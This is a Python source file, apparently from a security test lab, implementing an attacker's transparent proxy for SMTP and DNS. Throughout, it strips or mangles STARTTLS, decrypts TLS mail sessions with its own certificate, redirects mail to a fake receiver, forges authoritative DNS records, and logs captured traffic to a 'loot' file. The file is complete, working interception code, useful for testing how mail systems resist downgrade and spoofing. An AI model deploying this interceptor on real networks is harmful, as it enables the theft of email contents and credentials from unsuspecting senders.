"""The attacker's transparent proxies; runs in the attacker's namespace (see attacker.py).

Listens on the wildcard address with IP_TRANSPARENT: an accepted connection's own address is that of
the victim, and so is the address that it connects to on the other side.
"""

from __future__ import annotations

import hashlib
import json
import select
import socket
import ssl
import struct
import sys
import threading
from pathlib import Path
from typing import Any

import dns.exception
import dns.message
import dns.name
import dns.rdatatype

from lab import certs
from lab.dns_server import forge

IP_TRANSPARENT, IPV6_TRANSPARENT = 19, 75
IP_PKTINFO, IPV6_RECVPKTINFO, IPV6_PKTINFO = 8, 49, 50


class Interceptor:
    def __init__(self, plan: dict[str, Any]) -> None:
        self.mode, self.dir = plan["mode"], Path(plan["dir"])
        self.own = certs.self_signed("attacker.invalid")
        key = hashlib.sha256(self.own.spki()).hexdigest()
        self.forged = [line.replace("{key}", key) for line in plan["forged"]]
        self.own.write(self.dir / "attacker.pem")
        self.lock = threading.Lock()

    def read(self, data: bytes) -> None:
        """Something the sender said in clear (or that could be decrypted)."""
        with self.lock, open(self.dir / "loot.txt", "ab") as out:
            out.write(data)

    def run(self) -> None:
        for family in (socket.AF_INET, socket.AF_INET6):
            self._listen(family, 25, self._smtp)
            if self.mode in ("forge", "redirect"):
                self._listen(family, 53, self._dns_tcp)
                threading.Thread(target=self._dns_udp, args=(family,), daemon=True).start()
        print("ready", flush=True)
        threading.Event().wait()

    def _listen(self, family: int, port: int, handler: Any) -> None:
        listener = socket.socket(family, socket.SOCK_STREAM)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        _transparent(listener)
        listener.bind(("::" if family == socket.AF_INET6 else "0.0.0.0", port))
        listener.listen(128)

        def loop() -> None:
            while True:
                conn, _ = listener.accept()
                threading.Thread(target=_quietly, args=(handler, conn), daemon=True).start()

        threading.Thread(target=loop, daemon=True).start()

    # --- SMTP

    def _smtp(self, client: socket.socket) -> None:
        if self.mode == "redirect":
            self._own_server(client)
            return
        server = socket.create_connection(client.getsockname()[:2], 10)
        if self.mode == "relay":
            _both(client, server, self.read)
            return
        reader = client.makefile("rb")
        answers = server.makefile("rb")
        client.sendall(_reply(answers))
        while True:
            line = reader.readline(65536)
            if not line:
                return
            self.read(line)
            verb = line.strip().upper()
            if verb == b"STARTTLS":
                if self.mode in ("strip", "mangle"):
                    client.sendall(b"502 5.5.1 Command not implemented\r\n")
                    continue
                server.sendall(line)
                answer = _reply(answers)
                client.sendall(answer)
                if answer.startswith(b"220"):
                    self._decrypt(client, server)
                    return
                continue
            server.sendall(line)
            answer = _reply(answers)
            if verb.startswith(b"EHLO"):
                answer = self._spoil_ehlo(answer)
            client.sendall(answer)
            if verb == b"DATA" and answer.startswith(b"354"):
                _both(client, server, self.read)  # nothing to change from here on
                return

    def _spoil_ehlo(self, answer: bytes) -> bytes:
        if self.mode == "mangle":
            answer = answer.replace(b"STARTTLS", b"XXXXXXXX")
        # Pipelined commands would make the dialogue harder to follow; nobody misses the keyword.
        hidden = [b"PIPELINING", b"CHUNKING"]
        hidden += [b"STARTTLS"] if self.mode == "strip" else []
        lines = [line for line in answer.splitlines() if line[4:].strip().upper() not in hidden]
        lines[-1] = lines[-1][:3] + b" " + lines[-1][4:]
        return b"".join(line + b"\r\n" for line in lines)

    def _decrypt(self, client: socket.socket, server: socket.socket) -> None:
        inward = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        inward.load_cert_chain(self.dir / "attacker.pem")
        outward = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        outward.check_hostname, outward.verify_mode = False, ssl.CERT_NONE
        tls_client = inward.wrap_socket(client, server_side=True)
        tls_server = outward.wrap_socket(server)
        _both(tls_client, tls_server, self.read)

    def _own_server(self, client: socket.socket) -> None:
        """The attacker's own receiver: takes everything, offers TLS with its own certificate."""
        client.sendall(b"220 mx ESMTP\r\n")
        reader, secure = client.makefile("rb"), False
        while True:
            line = reader.readline(65536)
            if not line:
                return
            self.read(line)
            verb = line.strip().upper()
            if verb.startswith(b"EHLO"):
                client.sendall(b"250-mx\r\n250 8BITMIME\r\n" if secure
                               else b"250-mx\r\n250-8BITMIME\r\n250 STARTTLS\r\n")
            elif verb == b"STARTTLS":
                client.sendall(b"220 go\r\n")
                context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
                context.load_cert_chain(self.dir / "attacker.pem")
                client = context.wrap_socket(client, server_side=True)
                reader, secure = client.makefile("rb"), True
            elif verb == b"DATA":
                client.sendall(b"354 go\r\n")
                while line and line != b".\r\n":
                    line = reader.readline(65536)
                    self.read(line)
                client.sendall(b"250 2.0.0 thanks\r\n")
            elif verb == b"QUIT":
                client.sendall(b"221 bye\r\n")
                return
            else:
                client.sendall(b"250 ok\r\n")

    # --- DNS

    def _spoil_dns(self, wire: bytes, answer: bytes) -> bytes:
        try:
            query, reply = dns.message.from_wire(wire), dns.message.from_wire(answer)
        except dns.exception.DNSException:
            return answer
        name, kind = query.question[0].name, dns.rdatatype.to_text(query.question[0].rdtype)
        lines = [line for line in self.forged
                 if dns.name.from_text(line.split()[0]) == name and line.split()[1] == kind]
        if not lines:
            return answer
        records = [line for line in lines if not line.endswith(" -")]
        forge(reply, records, keep=bool(records))
        reply.flags |= dns.flags.AA
        return reply.to_wire(max_size=65535)

    def _dns_udp(self, family: int) -> None:
        sock = socket.socket(family, socket.SOCK_DGRAM)
        _transparent(sock)
        six = family == socket.AF_INET6
        level = socket.IPPROTO_IPV6 if six else socket.IPPROTO_IP
        sock.setsockopt(level, IPV6_RECVPKTINFO if six else IP_PKTINFO, 1)
        sock.bind(("::" if six else "0.0.0.0", 53))
        while True:
            wire, control, _, peer = sock.recvmsg(65535, 256)
            for _, kind, data in control:
                if kind == (IPV6_PKTINFO if six else IP_PKTINFO):
                    victim = data[:16] if six else data[8:12]
                    threading.Thread(target=_quietly, daemon=True, args=(
                        self._udp_one, sock, six, wire, victim, peer)).start()

    def _udp_one(self, sock: socket.socket, six: bool, wire: bytes, victim: bytes,
                 peer: Any) -> None:
        family = socket.AF_INET6 if six else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as real:
            real.settimeout(5)
            real.connect((socket.inet_ntop(family, victim), 53))
            real.send(wire)
            answer = self._spoil_dns(wire, real.recv(65535))
        if six:
            control = (socket.IPPROTO_IPV6, IPV6_PKTINFO, victim + struct.pack("=I", 0))
        else:
            control = (socket.IPPROTO_IP, IP_PKTINFO, struct.pack("=I", 0) + victim + bytes(4))
        sock.sendmsg([answer], [control], 0, peer)

    def _dns_tcp(self, client: socket.socket) -> None:
        with socket.create_connection(client.getsockname()[:2], 10) as server:
            inbound, outbound = client.makefile("rb"), server.makefile("rb")
            while True:
                size = inbound.read(2)
                if len(size) < 2:
                    return
                wire = inbound.read(struct.unpack("!H", size)[0])
                server.sendall(size + wire)
                answer = outbound.read(struct.unpack("!H", outbound.read(2))[0])
                answer = self._spoil_dns(wire, answer)
                client.sendall(struct.pack("!H", len(answer)) + answer)


def _transparent(sock: socket.socket) -> None:
    if sock.family == socket.AF_INET6:
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        sock.setsockopt(socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
    else:
        sock.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)


def _quietly(handler: Any, *args: Any) -> None:
    try:
        handler(*args)
    except (OSError, ssl.SSLError):
        pass
    finally:
        for arg in args:
            if isinstance(arg, socket.socket) and arg.type == socket.SOCK_STREAM:
                arg.close()


def _reply(answers: Any) -> bytes:
    """One whole SMTP reply."""
    text = b""
    while True:
        line = answers.readline(65536)
        text += line
        if not line or line[3:4] != b"-":
            return text


def _receive(source: socket.socket) -> bytes | None:
    """What is there now; None if nothing is (a TLS ticket makes a socket readable too)."""
    source.setblocking(False)
    try:
        return source.recv(65536)
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
        return None
    finally:
        source.setblocking(True)


def _both(client: socket.socket, server: socket.socket, read: Any) -> None:
    """Copies in both directions until either side ends. One thread: a TLS connection must not be
    read in one and written in another."""
    other = {client: server, server: client}
    try:
        while True:
            ready = [s for s in other if isinstance(s, ssl.SSLSocket) and s.pending()]
            for source in ready or select.select(list(other), [], [])[0]:
                data = _receive(source)
                if data is None:
                    continue
                if not data:
                    return
                if source is client:
                    read(data)
                other[source].sendall(data)
    except OSError:
        pass
    finally:
        for sock in other:
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


if __name__ == "__main__":
    Interceptor(json.loads(sys.argv[1])).run()
